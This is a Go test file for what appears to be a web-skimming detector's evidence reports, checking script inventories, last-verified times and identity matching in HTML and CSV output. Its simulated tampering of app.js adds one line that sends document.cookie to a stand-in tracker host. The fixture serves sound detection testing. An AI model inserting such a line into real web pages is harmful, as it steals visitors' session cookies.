package evidence

import (
	"bytes"
	"context"
	"crypto/sha256"
	"encoding/csv"
	"encoding/hex"
	"fmt"
	"path/filepath"
	"strings"
	"testing"
	"time"

	skimguard "github.com/skimguard/skimguard"
	"github.com/skimguard/skimguard/baseline"
	"github.com/skimguard/skimguard/sqlite"
)

const (
	checkoutURL = "https://shop.test/checkout"
	appURL      = "https://shop.test/static/app.js"
	abURL       = "https://shop.test/static/ab-b.js"
	appJS       = `document.getElementById("pay").addEventListener("click",function(){window.checkout.submit()});`
)

func pageScript(kind skimguard.ScriptKind, url, src string) skimguard.Script {
	sum := sha256.Sum256([]byte(src))
	return skimguard.Script{Kind: kind, URL: url, Frame: checkoutURL, Ordinal: 1, SHA256: hex.EncodeToString(sum[:]), Size: len(src),
		Source: src, LoadedBy: "parser"}
}

// load is load n of the checkout: app.js, an inline configuration with a
// per-load token, and on odd loads an A/B variant's script with a cache
// buster.
func load(n int) *skimguard.Observation {
	o := &skimguard.Observation{Site: "shop", Page: "checkout", URL: checkoutURL, FinalURL: checkoutURL, Status: 200,
		StartedAt: t0.Add(time.Duration(n) * time.Hour),
		Headers:   map[string]string{"x-frame-options": "DENY"},
		Scripts: []skimguard.Script{
			pageScript(skimguard.ScriptExternal, appURL, appJS),
			pageScript(skimguard.ScriptInline, "", fmt.Sprintf(`window.cfg={"csrf":"%x","cart":%d};`, sha256.Sum256([]byte{byte(n)}), 1000+n)),
		},
		Connections: []skimguard.Connection{{Origin: "https://shop.test", Types: []string{"Script"}, Example: appURL, Count: 2}},
	}
	o.Scripts[1].Location = "line 3 col 9"
	if n%2 == 1 {
		o.Scripts = append(o.Scripts, pageScript(skimguard.ScriptExternal, fmt.Sprintf("%s?v=%d", abURL, n), `document.body.classList.add("ab-b");`))
	}
	return o
}

// history stores a baseline learnt from loads 1 to 3 and then checks
// 4 to 15 (twelve), each seeing a new tracker (an unrelated finding, left
// open); in checks 14 and 15 app.js is tampered with. It returns the
// store and the start of each check.
func history(t *testing.T) (skimguard.Store, map[int]time.Time) {
	t.Helper()
	ctx := context.Background()
	db, err := sqlite.Open(ctx, filepath.Join(t.TempDir(), "sg.db"))
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { db.Close() })
	b, err := baseline.Learn([]*skimguard.Observation{load(1), load(2), load(3)}, "alice", "onboarding, ticket 7", t0.Add(3*time.Hour))
	if err != nil {
		t.Fatal(err)
	}
	b.Site, b.Page, b.URL = "shop", "checkout", checkoutURL
	if err := db.SaveBaseline(ctx, b); err != nil {
		t.Fatal(err)
	}
	starts := map[int]time.Time{}
	for n := 4; n <= 15; n++ {
		o := load(n)
		o.Connections = append(o.Connections, skimguard.Connection{Origin: "https://tracker.test", Types: []string{"Image"}, Example: "https://tracker.test/p.gif", Count: 1})
		if n >= 14 {
			o.Scripts[0] = pageScript(skimguard.ScriptExternal, appURL, appJS+`new Image().src="https://tracker.test/c?"+document.cookie;`)
		}
		s := &skimguard.Scan{Site: "shop", Page: "checkout", URL: checkoutURL, StartedAt: o.StartedAt, Status: skimguard.ScanOK,
			BaselineVersion: b.Version, Observation: o, Findings: baseline.Compare(b, o)}
		if len(s.Findings) > 0 {
			s.Status = skimguard.ScanFindings
		}
		if err := db.SaveScan(ctx, s); err != nil {
			t.Fatal(err)
		}
		starts[n] = s.StartedAt
	}
	return db, starts
}

func TestInventoryShowsTheCheckThatLastVerifiedEachScript(t *testing.T) {
	ctx := context.Background()
	store, starts := history(t)
	now := t0.Add(24 * time.Hour)
	check := func(t *testing.T, inv []Script) {
		t.Helper()
		want := map[string]time.Time{
			appURL:         starts[13], // tampered with in the two checks after
			abURL + "?v=1": starts[15], // the newest check it ran in
			"inline #1 (line 3 col 9) in " + checkoutURL: starts[15],
		}
		if len(inv) != len(want) {
			t.Fatalf("inventory %+v; want %d scripts", inv, len(want))
		}
		for _, s := range inv {
			w, ok := want[s.Script]
			if !ok {
				t.Fatalf("unexpected script %q", s.Script)
			}
			if s.LastVerified == nil || !s.LastVerified.Equal(w) {
				t.Errorf("%s: last verified %s, want %s", s.Script, dayPtr(s.LastVerified), day(w))
			}
		}
	}
	t.Run("checks whose only findings concern other things verify every script", func(t *testing.T) {
		bs, err := store.Baselines(ctx, nil)
		if err != nil {
			t.Fatal(err)
		}
		inv, err := Inventory(ctx, store, bs, now.Add(-Lookback), now)
		if err != nil {
			t.Fatal(err)
		}
		check(t, inv)
	})
	t.Run("the report's inventory says the same", func(t *testing.T) {
		r, err := Build(ctx, store, []skimguard.Page{{Site: "shop", Name: "checkout", URL: checkoutURL}}, t0, now, now)
		if err != nil {
			t.Fatal(err)
		}
		check(t, r.Inventory)
	})
	t.Run("approving the tracker keeps what the earlier checks verified", func(t *testing.T) {
		fs, err := store.Findings(ctx, skimguard.FindingFilter{Status: skimguard.StatusOpen})
		if err != nil {
			t.Fatal(err)
		}
		var ids []int64
		for _, f := range fs {
			if f.Kind == skimguard.KindConnectionAdded {
				ids = append(ids, f.ID)
			}
		}
		if len(ids) != 1 {
			t.Fatalf("findings %+v; want one connection.added", fs)
		}
		if err := store.ResolveFindings(ctx, ids, skimguard.Resolution{Status: skimguard.StatusApproved, By: "bob", Reason: "analytics, SEC-9", At: now.Add(-time.Minute)}, baseline.Apply); err != nil {
			t.Fatal(err)
		}
		bs, err := store.Baselines(ctx, nil)
		if err != nil || len(bs) != 1 || bs[0].Version != 2 {
			t.Fatalf("baselines %+v, %v; want version 2", bs, err)
		}
		inv, err := Inventory(ctx, store, bs, now.Add(-Lookback), now)
		if err != nil {
			t.Fatal(err)
		}
		check(t, inv)
	})
}

func TestInventoryNamesScriptsByTheirLearntIdentity(t *testing.T) {
	ctx := context.Background()
	store, _ := history(t)
	now := t0.Add(24 * time.Hour)
	r, err := Build(ctx, store, []skimguard.Page{{Site: "shop", Name: "checkout", URL: checkoutURL}}, t0, now, now)
	if err != nil {
		t.Fatal(err)
	}
	want := map[string]string{ // identity: how it matched
		appURL:                  MatchedByHash,
		abURL + "?v=*":          MatchedByHash,
		"inline #1 in the page": MatchedByStructure,
	}
	for _, s := range r.Inventory {
		m, ok := want[s.Identity]
		if !ok {
			t.Errorf("%s is identified as %q; want one of %v", s.Script, s.Identity, want)
			continue
		}
		if s.MatchedBy != m {
			t.Errorf("%s: matched by %q, want %q", s.Identity, s.MatchedBy, m)
		}
	}

	var h, c bytes.Buffer
	if err := r.HTML(&h); err != nil {
		t.Fatal(err)
	}
	if err := r.CSV(&c); err != nil {
		t.Fatal(err)
	}
	for _, want := range []string{abURL + "?v=*", "matched by structure: text varies per load"} {
		if !strings.Contains(h.String(), want) {
			t.Errorf("the HTML report lacks %q", want)
		}
	}
	if strings.Contains(h.String(), abURL+"?v=1") {
		t.Error("the HTML report shows one load's cache buster")
	}
	cr := csv.NewReader(&c)
	cr.FieldsPerRecord = -1
	recs, err := cr.ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	col := map[string]int{}
	rows := 0
	for _, rec := range recs {
		switch {
		case len(rec) > 1 && rec[0] == "section" && rec[1] == "site" && rec[3] == "script":
			for i, name := range rec {
				col[name] = i
			}
		case rec[0] == "inventory":
			rows++
			if m, ok := want[rec[col["identity"]]]; !ok || rec[col["matched_by"]] != m {
				t.Errorf("CSV inventory row %q: identity and matched_by not as learnt", rec)
			}
		}
	}
	if rows != len(want) {
		t.Errorf("%d CSV inventory rows, want %d", rows, len(want))
	}
}
